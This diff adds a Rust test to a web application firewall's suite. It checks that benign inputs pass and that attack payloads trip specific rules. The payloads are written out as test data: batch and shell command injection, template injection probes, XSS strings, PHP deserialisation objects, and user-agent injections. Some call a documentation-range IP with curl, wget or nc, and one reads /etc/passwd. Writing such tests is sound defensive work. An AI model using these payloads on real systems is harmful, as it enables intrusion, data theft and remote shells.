@@ -1072,3 +1072,127 @@ fn holdout8_second_shapes_pass_and_their_attacks_still_score() {
         3600,
     );
 }
+
+fn with_user_agent(target: &str, ua: &str) -> Request {
+    Request::from_headers(vec![
+        (":method".into(), b"GET".to_vec()),
+        (":path".into(), target.as_bytes().to_vec()),
+        (":authority".into(), b"api.example.com".to_vec()),
+        ("accept".into(), b"application/json".to_vec()),
+        ("user-agent".into(), ua.as_bytes().to_vec()),
+    ])
+}
+
+#[test]
+fn holdout9_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    for body in [
+        // SQL's `IF NOT EXISTS` is not batch's `if not exist`.
+        r#"{"ddl": "DROP VIEW IF EXISTS v_daily_totals"}"#,
+        // A template filter given a number; a host function whose name ends in `attr`.
+        r#"{"t": "{{ price | round(2) }} EUR, {{ humidity | float(0) }} %"}"#,
+        r#"{"t": "Set to {{ state_attr('climate.office', 'temperature') }} degrees"}"#,
+        // A disclosure widget folding a list away.
+        r#"{"notes": "<details><summary>Changes</summary><ul><li>Faster export</li></ul></details>"}"#,
+        // `!!` between words: a wiki table's header cells, an exclamation.
+        r#"{"wikitext": "! Region !! Sales\n| North || 12"}"#,
+        r#"{"msg": "fixed it !! thank you"}"#,
+        // Kubernetes and CI references to upper-case variables.
+        r#"{"args": ["--dsn", "$(PRIMARY_DB_DSN)"], "cmd": "deploy --tag $(IMAGE_TAG) --ns $(K8S_NS)"}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    // Array parameters named like PHP functions; a JSF form's own field names.
+    for t in ["/v1/courses?include[]=teachers&file[0]=a.pdf", "/v1/x?header[title]=Q3"] {
+        let o = outcome(&waf, t);
+        assert!(!o.blocked, "{t}: {o:?}");
+    }
+    let o = post(
+        "/faces/edit.xhtml",
+        "application/x-www-form-urlencoded",
+        "javax.faces.source=f%3Asave&f%3Aname=Ann",
+        &waf,
+    );
+    assert!(!o.blocked, "{o:?}");
+    // A serialised PHP array of scalars in a framework's session cookie.
+    let r = get("/home", &[("cookie", "app_session=a%3A2%3A%7Bs%3A4%3A%22user%22%3Bs%3A3%3A%22bob%22%3B%7D")]);
+    let o = waf.outcome(&waf.inspect_head(&r));
+    assert!(!o.blocked, "{o:?}");
+    // User agents naming their runtime and HTTP library in product tokens.
+    for ua in [
+        "Composer/2.7.0 (Darwin; 23.4.0; PHP 8.2.1; cURL 8.4.0; CI)",
+        "mailer-sdk/2.0.1;python",
+        "tool/1.2 (Linux; ruby/3.3.0)",
+    ] {
+        let o = waf.outcome(&waf.inspect_head(&with_user_agent("/v1/items", ua)));
+        assert!(!o.blocked, "{ua}: {o:?}");
+    }
+
+    // The attacks next to them.
+    let rule = |body: &str, id: u32| {
+        let o = json_post(&waf, body);
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == id), "{body}: {o:?}");
+    };
+    for q in [
+        r"if exist c:\\windows\\win.ini type c:\\windows\\win.ini",
+        r"x & if not exist C:\\t (mkdir C:\\t)",
+        "a | if errorlevel 1 goto end",
+        "if defined ProgramFiles echo 1",
+    ] {
+        rule(&format!(r#"{{"q": "{q}"}}"#), 3206);
+    }
+    for q in [
+        "{{ ''|attr('__class__') }}",
+        "{{ lipsum | attr ( 'x' ) }}",
+        "{{ x|attr(\\\"y\\\") }}",
+        "{{ 7*7 }}",
+        "{{ x|round(7*7) }}",
+        "{{ config.items() }}",
+        "{{ request|join('') }}",
+    ] {
+        rule(&format!(r#"{{"q": "{q}"}}"#), 3600);
+    }
+    for q in [
+        "<details open ontoggle=alert(1)>",
+        "<details/open/ontoggle=confirm(1)>",
+        "<details><summary>x</summary><script>alert(1)</script></details>",
+    ] {
+        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
+        assert!(blocked_category(&o, Category::Xss), "{q}: {o:?}");
+    }
+    for q in
+        ["$(id)", "$(WHOAMI)", "x $(curl -s http://203.0.113.9/a)", "$(MY_VAR) `id`", "$(A_B) $(uname -a)", "$(ID)"]
+    {
+        rule(&format!(r#"{{"q": "{q}"}}"#), 3201);
+    }
+    for q in ["!!", "!-2", " !1", "x;!!", "a && !-1", "x | !ls"] {
+        rule(&format!(r#"{{"q": "{q}"}}"#), 3209);
+    }
+    for t in ["/x?q=include[$f]", "/x?q=readfile['/etc/hosts']", "/x?q=system[%20'id'%20]", "/x?q=system('id')"] {
+        let o = outcome(&waf, t);
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3301), "{t}: {o:?}");
+    }
+    for q in ["javax.naming.InitialContext", "javax.script.ScriptEngineManager", "javax.el.ELProcessor"] {
+        rule(&format!(r#"{{"q": "{q}"}}"#), 4401);
+    }
+    for q in [
+        r#"O:8:\"stdClass\":0:{}"#,
+        r#"a:1:{i:0;O:4:\"Evil\":1:{s:1:\"x\";s:2:\"id\";}}"#,
+        r#"O:+4:\"Evil\":0:{}"#,
+        r#"C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}"#,
+    ] {
+        rule(&format!(r#"{{"q": "{q}"}}"#), 3303);
+    }
+    for ua in [
+        "Mozilla/5.0;id",
+        "x/1.0;sleep 5",
+        "x/1.0; cat /etc/passwd",
+        "a/1.0 (Linux; wget http://203.0.113.9/x)",
+        "a/1.0;php -r phpinfo();",
+        "curl/8.0;nc 203.0.113.9 4444",
+    ] {
+        let o = waf.outcome(&waf.inspect_head(&with_user_agent("/v1/items", ua)));
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3200), "{ua}: {o:?}");
+    }
+}
